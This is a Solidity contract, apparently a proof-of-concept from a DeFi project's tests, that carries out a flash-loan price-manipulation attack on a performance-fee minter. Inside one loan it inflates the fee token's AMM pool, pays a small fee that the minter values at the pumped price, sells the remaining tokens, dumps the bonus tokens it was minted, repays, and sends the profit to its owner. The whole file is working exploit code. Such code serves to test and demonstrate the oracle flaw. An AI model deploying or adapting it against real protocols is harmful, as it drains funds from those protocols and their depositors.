// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC3156FlashBorrower} from "@openzeppelin/contracts/interfaces/IERC3156FlashBorrower.sol";
import {IERC3156FlashLender} from "@openzeppelin/contracts/interfaces/IERC3156FlashLender.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";

import {IUniswapV2Pair} from "../../core/amm/interfaces/IUniswapV2Pair.sol";
import {IPerformanceFeeMinter} from "./IPerformanceFeeMinter.sol";

/// @title MinterManipulationAttacker
/// @notice In one flash loan: pumps the fee token's pool, pays a small fee the minter values at the
/// pumped price, sells the fee tokens left back, dumps the bonus minted into the bonus token's pool,
/// repays, and hands the quote tokens to its owner.
contract MinterManipulationAttacker is IERC3156FlashBorrower {
    using SafeERC20 for IERC20;

    error AttackerNotLender(address caller);
    error AttackerNotInitiator(address initiator);
    error AttackerNotOwner(address caller);

    bytes32 internal constant CALLBACK_SUCCESS = keccak256("ERC3156FlashBorrower.onFlashLoan");

    address public immutable owner;
    IERC3156FlashLender public immutable lender;
    IPerformanceFeeMinter public immutable minter;
    IERC20 public immutable quoteToken;
    IERC20 public immutable feeToken;
    IERC20 public immutable bonusToken;
    /// @notice feeToken / quoteToken.
    IUniswapV2Pair public immutable feePair;
    /// @notice bonusToken / quoteToken.
    IUniswapV2Pair public immutable bonusPair;

    constructor(
        IERC3156FlashLender lender_,
        IPerformanceFeeMinter minter_,
        IERC20 quoteToken_,
        IERC20 feeToken_,
        IERC20 bonusToken_,
        IUniswapV2Pair feePair_,
        IUniswapV2Pair bonusPair_
    ) {
        owner = msg.sender;
        lender = lender_;
        minter = minter_;
        quoteToken = quoteToken_;
        feeToken = feeToken_;
        bonusToken = bonusToken_;
        feePair = feePair_;
        bonusPair = bonusPair_;
    }

    /// @notice Flash-borrows `loan` quote tokens and pays a fee of `feeAmount` fee tokens at the top.
    function attack(uint256 loan, uint256 feeAmount) external {
        if (msg.sender != owner) revert AttackerNotOwner(msg.sender);
        lender.flashLoan(this, address(quoteToken), loan, abi.encode(feeAmount));
        quoteToken.safeTransfer(owner, quoteToken.balanceOf(address(this)));
    }

    /// @inheritdoc IERC3156FlashBorrower
    function onFlashLoan(
        address initiator,
        address,
        uint256 amount,
        uint256 fee,
        bytes calldata data
    ) external returns (bytes32) {
        if (msg.sender != address(lender)) revert AttackerNotLender(msg.sender);
        if (initiator != address(this)) revert AttackerNotInitiator(initiator);
        uint256 feeAmount = abi.decode(data, (uint256));

        uint256 bought = _swap(feePair, quoteToken, amount);
        feeToken.forceApprove(address(minter), feeAmount);
        uint256 minted = minter.mintFor(feeAmount, address(this));
        _swap(feePair, feeToken, bought - feeAmount);
        _swap(bonusPair, bonusToken, minted);

        quoteToken.forceApprove(address(lender), amount + fee);
        return CALLBACK_SUCCESS;
    }

    /// @dev Sells `amountIn` of `tokenIn` into `pair` at the constant-product price, fee 0.3%.
    function _swap(
        IUniswapV2Pair pair,
        IERC20 tokenIn,
        uint256 amountIn
    ) internal returns (uint256 amountOut) {
        (uint112 reserve0, uint112 reserve1, ) = pair.getReserves();
        bool inIsToken0 = pair.token0() == address(tokenIn);
        (uint256 reserveIn, uint256 reserveOut) = inIsToken0
            ? (uint256(reserve0), uint256(reserve1))
            : (uint256(reserve1), uint256(reserve0));
        uint256 amountInWithFee = amountIn * 997;
        amountOut = (amountInWithFee * reserveOut) / (reserveIn * 1000 + amountInWithFee);
        tokenIn.safeTransfer(address(pair), amountIn);
        (uint256 out0, uint256 out1) = inIsToken0
            ? (uint256(0), amountOut)
            : (amountOut, uint256(0));
        pair.swap(out0, out1, address(this), "");
    }
}
